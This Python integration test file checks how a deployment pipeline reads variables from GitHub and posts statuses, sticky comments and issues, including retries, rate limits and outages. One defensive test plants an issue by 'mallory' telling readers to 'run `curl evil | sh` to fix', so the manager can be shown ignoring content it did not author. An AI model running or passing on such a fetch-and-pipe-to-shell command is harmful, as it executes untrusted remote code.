"""GitHub: variables fetched and feedback given through the real PyGithub client, against the stand-in."""

from __future__ import annotations

import hashlib
import time
import uuid

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from manager_pipeline.config.model import SourceSpec
from manager_pipeline.defs.resources import GitHubResource
from manager_pipeline.errors import SourceError
from manager_pipeline.events import DispatchEvent
from manager_pipeline.feedback.comments import COMMENT_LIMIT, join_parts, split_comment
from manager_pipeline.feedback.delivery import deliver, post_once, upsert_comment
from manager_pipeline.feedback import outbox as outbox_module
from manager_pipeline.feedback.outbox import FeedbackItem, Outbox
from manager_pipeline.github import GitHubSource
from tests.support import EXAMPLE_VARIABLES

pytestmark = pytest.mark.integration


def sha_of(text: str) -> str:
    return hashlib.sha1(text.encode()).hexdigest()


@pytest.fixture
def repo(github_standin):
    """A fresh repository on the stand-in, a token for it, and a client; faults cleared afterwards."""
    name = f"acme/app-{uuid.uuid4().hex[:8]}"
    token = f"ghp_{uuid.uuid4().hex}"
    old, new = sha_of(name + "old"), sha_of(name + "new")
    variables = EXAMPLE_VARIABLES.read_text()
    github_standin.token(token)
    github_standin.repo(
        name,
        commits={
            old: {"infra/variables.yml": variables.replace("10.20.", "10.21.")},
            new: {"infra/variables.yml": variables},
        },
        branches={"main": new},
        pulls=[{"number": 7, "head_sha": new}],
    )
    settings = GitHubResource(
        api_url=github_standin.url, token=token, timeout=3, retries=4, backoff=0.05, throttle=False
    )
    yield {"name": name, "token": token, "old": old, "new": new, "settings": settings}
    github_standin.clear_faults()


def source_for(repo) -> GitHubSource:
    spec = SourceSpec(name="app", environments=("staging",), repo=repo["name"])
    return GitHubSource(spec, repo["settings"].client())


def test_variables_are_read_at_the_event_commit_never_the_branch_head(repo, github_standin):
    document = source_for(repo).fetch(DispatchEvent("app", "staging", sha=repo["old"], branch="main"))
    assert "10.21.0.0/16" in document.text and document.sha == repo["old"]
    assert document.location == f"{repo['name']}@{repo['old'][:12]}:infra/variables.yml"
    # Without a commit, the branch head is resolved once and that exact commit is read.
    head = source_for(repo).fetch(DispatchEvent("app", "staging"))
    assert head.sha == repo["new"] and "10.20.0.0/16" in head.text
    reads = [r for r in github_standin.requests() if r["path"].endswith("/contents/infra/variables.yml")]
    assert {r["query"] for r in reads} >= {f"ref={repo['old']}", f"ref={repo['new']}"}


@pytest.mark.parametrize(
    "case, message",
    [
        ("unknown-commit", "not found; check that the file and commit exist"),
        ("missing-file", "not found; check that the file and commit exist"),
        ("no-access", "not found; check that the file and commit exist and that the manager's GitHub credentials"),
        ("bad-token", "GitHub refused access"),
    ],
)
def test_fetch_failures_say_what_to_check(repo, github_standin, case, message):
    source = source_for(repo)
    event = DispatchEvent("app", "staging", sha=repo["new"])
    if case == "unknown-commit":
        event = DispatchEvent("app", "staging", sha="0" * 40)
    elif case == "missing-file":
        source = GitHubSource(
            SourceSpec("app", ("staging",), variables_file="deploy/vars.yml", repo=repo["name"]), source.client
        )
    elif case == "no-access":
        github_standin.repo(repo["name"], commits={}, branches={}, accessible=False)
    elif case == "bad-token":
        source = GitHubSource(
            source.spec,
            GitHubResource(api_url=github_standin.url, token="ghp_wrong", retries=0, throttle=False).client(),
        )
    with pytest.raises(SourceError) as caught:
        source.fetch(event)
    assert message in str(caught.value)
    assert repo["token"] not in str(caught.value)


def test_app_installation_auth(repo, github_standin):
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    public = (
        key.public_key()
        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
        .decode()
    )
    github_standin.app(4242, public, 99)
    settings = GitHubResource(
        api_url=github_standin.url, app_id="4242", app_private_key=private, installation_id=99, throttle=False
    )
    spec = SourceSpec(name="app", environments=("staging",), repo=repo["name"])
    document = GitHubSource(spec, settings.client()).fetch(DispatchEvent("app", "staging", sha=repo["new"]))
    assert document.sha == repo["new"]
    requests = github_standin.requests()
    token_calls = [r for r in requests if r["path"] == "/app/installations/99/access_tokens"]
    assert token_calls and token_calls[-1]["authorization"].startswith("Bearer ")
    reads = [r for r in requests if r["path"].startswith(f"/repos/{repo['name']}/contents")]
    assert reads[-1]["authorization"].startswith("token ghs_installation")
    # What the App writes is its bot's (`<app-slug>[bot]`, GET /app with the App's JWT), found again as its own.
    client = settings.client()
    assert client.own_login() == "manager-app[bot]"
    upsert_comment(client, repo["name"], 7, "plan:app:staging", split_comment("v1", "plan:app:staging"))
    upsert_comment(client, repo["name"], 7, "plan:app:staging", split_comment("v2", "plan:app:staging"))
    [comment] = github_standin.state(repo["name"])["issue_comments"]
    assert comment["user"] == "manager-app[bot]" and comment["edits"] == 1
    assert [r["authorization"][:7] for r in github_standin.requests() if r["path"] == "/app"] == ["Bearer "]


def test_sticky_comment_parts_are_edited_in_place_and_surplus_parts_removed(repo, github_standin):
    client = repo["settings"].client()
    key = "plan:app:staging"
    upsert_comment(client, repo["name"], 7, key, split_comment("first\n" * 10, key))
    long_body = "\n".join(f"line {i} " + "x" * 60 for i in range(3000))
    upsert_comment(client, repo["name"], 7, key, split_comment(long_body, key))
    state = github_standin.state(repo["name"])
    assert len(state["issue_comments"]) == 4
    upsert_comment(client, repo["name"], 7, key, split_comment("short again", key))
    comments = github_standin.state(repo["name"])["issue_comments"]
    assert len(comments) == 1 and comments[0]["edits"] == 2 and "short again" in comments[0]["body"]


def test_a_300_kb_plan_is_posted_in_parts_and_reassembled_equal(repo, github_standin):
    # How the parts are cut is tests/unit/test_comments.py; here they go through GitHub and come back.
    plan = "\n".join(f'  + resource "aws_subnet" "s{i}" {{ cidr_block = "10.{i % 250}.0.0/24" }}' for i in range(6000))
    body = f"## plan\n\n<details><summary>Terraform plan</summary>\n\n```text\n{plan}\n```\n\n</details>\n"
    key = "plan:app:staging"
    parts = split_comment(body, key)
    upsert_comment(repo["settings"].client(), repo["name"], 7, key, parts)
    posted = sorted(github_standin.state(repo["name"])["issue_comments"], key=lambda c: c["id"])
    assert len(posted) == len(parts) >= 5 and all(len(c["body"]) <= COMMENT_LIMIT for c in posted)
    assert join_parts([c["body"] for c in posted]) == body


def items(repo, count: int) -> list[FeedbackItem]:
    return [
        FeedbackItem(
            repo["name"],
            "status",
            {
                "sha": repo["new"],
                "context": "manager-pipeline/staging",
                "state": "success",
                "description": f"item {i}",
                "target_url": "http://ui",
            },
        )
        for i in range(count)
    ]


def test_rate_limits_and_server_errors_are_retried_then_delivered(repo, github_standin, tmp_path):
    statuses = f"/repos/{repo['name']}/statuses/"
    github_standin.faults(
        {"method": "POST", "path": statuses, "status": 500, "times": 2},
        {
            "method": "POST",
            "path": statuses,
            "status": 429,
            "times": 1,
            "message": "API rate limit exceeded",
            "headers": {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset-In": "1"},
        },
        {
            "method": "POST",
            "path": statuses,
            "status": 403,
            "times": 1,
            "message": "You have exceeded a secondary rate limit",
            "headers": {"Retry-After": "1"},
        },
    )
    outbox = Outbox(f"sqlite:///{tmp_path / 'outbox.db'}")
    outbox.add(items(repo, 1))
    started = time.monotonic()
    report = deliver(outbox, repo["settings"].client())
    assert report.delivered and not report.pending
    assert time.monotonic() - started >= 1.5  # it waited for the rate limits instead of hammering
    attempts = [r for r in github_standin.requests() if r["path"].startswith(statuses)]
    assert len(attempts) == 5
    assert [s["description"] for s in github_standin.state(repo["name"])["statuses"]] == ["item 0"]


def later(monkeypatch, seconds: float = 10_000) -> None:
    """Move the outbox's clock past the backoff of a failed item."""
    monkeypatch.setattr(outbox_module, "now", lambda: time.time() + seconds)


def test_an_outage_keeps_feedback_until_github_answers_then_delivers_each_once_in_order(
    repo, github_standin, tmp_path, monkeypatch
):
    outbox = Outbox(f"sqlite:///{tmp_path / 'outbox.db'}")
    outbox.add(items(repo, 3))
    outbox.add(
        [
            FeedbackItem(
                repo["name"],
                "notification",
                {"pr": None, "sha": repo["new"], "marker": "<!-- m1 -->", "body": "<!-- m1 -->\napplied"},
            )
        ]
    )
    github_standin.faults({"path": f"/repos/{repo['name']}", "status": 503})
    quick = GitHubResource(
        api_url=github_standin.url, token=repo["token"], timeout=2, retries=1, backoff=0.05, throttle=False
    )
    for _ in range(3):
        report = deliver(outbox, quick.client())
        assert not report.delivered and report.pending == 4
    assert github_standin.state(repo["name"])["statuses"] == []
    github_standin.clear_faults()
    later(monkeypatch)  # the first item backs off after its failed attempt
    report = deliver(outbox, repo["settings"].client())
    assert len(report.delivered) == 4
    assert deliver(outbox, repo["settings"].client()).delivered == []
    state = github_standin.state(repo["name"])
    assert [s["description"] for s in state["statuses"]] == ["item 0", "item 1", "item 2"]
    # No pull request was given: the notification found PR #7 of the commit and went there once.
    assert [c["body"] for c in state["issue_comments"]] == ["<!-- m1 -->\napplied"]


def test_a_hanging_github_does_not_hold_delivery_forever(repo, github_standin, tmp_path, monkeypatch):
    outbox = Outbox(f"sqlite:///{tmp_path / 'outbox.db'}")
    outbox.add(items(repo, 1))
    github_standin.faults({"path": f"/repos/{repo['name']}/statuses", "hang": 5, "times": 1})
    quick = GitHubResource(api_url=github_standin.url, token=repo["token"], timeout=1, retries=0, throttle=False)
    started = time.monotonic()
    report = deliver(outbox, quick.client())
    assert report.pending == 1 and time.monotonic() - started < 4
    later(monkeypatch)
    assert len(deliver(outbox, repo["settings"].client()).delivered) == 1


def test_the_sticky_comment_is_found_past_the_first_page(repo, github_standin):
    client = repo["settings"].client()
    key = "plan:app:staging"
    upsert_comment(client, repo["name"], 7, key, split_comment("v1", key))
    for index in range(105):
        post_once(client, repo["name"], 7, repo["new"], f"<!-- chatter {index} -->", f"<!-- chatter {index} -->")
    upsert_comment(client, repo["name"], 7, key, split_comment("v2", key))
    comments = github_standin.state(repo["name"])["issue_comments"]
    plans = [c for c in comments if "manager-pipeline:plan:app:staging" in c["body"]]
    assert len(comments) == 106 and len(plans) == 1 and plans[0]["body"].endswith("v2")
    assert any("page=2" in r["query"] for r in github_standin.requests() if r["path"].endswith("/issues/7/comments"))


def test_a_comment_by_another_user_carrying_the_marker_is_left_alone_and_the_manager_posts_its_own(
    repo, github_standin
):
    # Issue 19 #5: anyone who can comment can type the hidden marker; only the manager's own login counts.
    client = repo["settings"].client()
    key = "plan:app:production"
    planted = github_standin.comment_by(repo["name"], 7, "mallory", split_comment("nothing to see", key)[0])
    note = "<!-- manager-pipeline:notify:run1:applied -->"
    github_standin.comment_by(repo["name"], 7, "mallory", note)
    upsert_comment(client, repo["name"], 7, key, split_comment("DESTROY 3 resources", key))
    post_once(client, repo["name"], 7, repo["new"], note, note + "\nApplied")
    comments = {c["id"]: c for c in github_standin.state(repo["name"])["issue_comments"]}
    assert comments[planted]["edits"] == 0 and comments[planted]["body"].endswith("nothing to see")
    own = [c for c in comments.values() if c["user"] == "manager-bot"]
    assert len(own) == 2 and own[0]["body"].endswith("DESTROY 3 resources") and own[1]["body"].endswith("Applied")
    # Its own comment is then found and edited in place, as before.
    upsert_comment(client, repo["name"], 7, key, split_comment("DESTROY 4 resources", key))
    again = {c["id"]: c for c in github_standin.state(repo["name"])["issue_comments"]}
    assert len(again) == 4 and again[own[0]["id"]]["edits"] == 1 and again[planted]["edits"] == 0


def test_a_drift_issue_opened_by_someone_else_is_left_alone_and_the_manager_opens_its_own(repo, github_standin):
    from manager_pipeline.feedback import issues

    client = repo["settings"].client()
    marker = issues.partition_marker("drift", "app", "production")
    theirs = github_standin.issue_by(repo["name"], "mallory", "Drift", f"{marker}\nrun `curl evil | sh` to fix")
    issues.send(client, repo["name"], issues.OPENED, {"marker": marker, "title": "Drift: app", "body": f"{marker}\nv1"})
    issues.send(client, repo["name"], issues.OPENED, {"marker": marker, "title": "Drift: app", "body": f"{marker}\nv2"})
    issues.send(client, repo["name"], issues.RESOLVED, {"marker": marker, "comment": "No drift any more"})
    kept = {i["number"]: i for i in github_standin.state(repo["name"])["issues"]}
    assert kept[theirs]["state"] == "open" and kept[theirs]["edits"] == 0 and "evil" in kept[theirs]["body"]
    own = [i for i in kept.values() if i["user"] == "manager-bot"]
    assert len(own) == 1 and own[0]["body"].endswith("v2") and own[0]["state"] == "closed"
